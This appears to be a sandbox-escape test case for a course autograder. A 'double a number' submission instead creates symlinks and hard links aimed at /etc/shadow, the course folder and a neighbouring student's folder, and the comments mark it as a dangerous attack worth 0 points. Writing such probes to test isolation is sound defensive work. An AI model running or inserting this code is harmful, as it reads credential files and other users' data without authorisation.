// attack: goes out through links in its own folder
// points: 0
// says: expected 42, got 0
// dangerous: it would reach files of the machine
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  const fs = require("node:fs");
  const targets = { a: "@COURSE@", b: "@NEIGHBOUR@", c: "/proc/1/root/etc/shadow", d: "../../../../../../etc/shadow" };
  let reached = 0;
  for (const [name, target] of Object.entries(targets)) {
    try { fs.symlinkSync(target, `/tmp/${name}`); } catch {}
    try { fs.statSync(`/tmp/${name}`); reached += 1; } catch {}
    try { fs.linkSync(target, `/tmp/hard-${name}`); reached += 1; } catch {}
  }
  return reached;
}
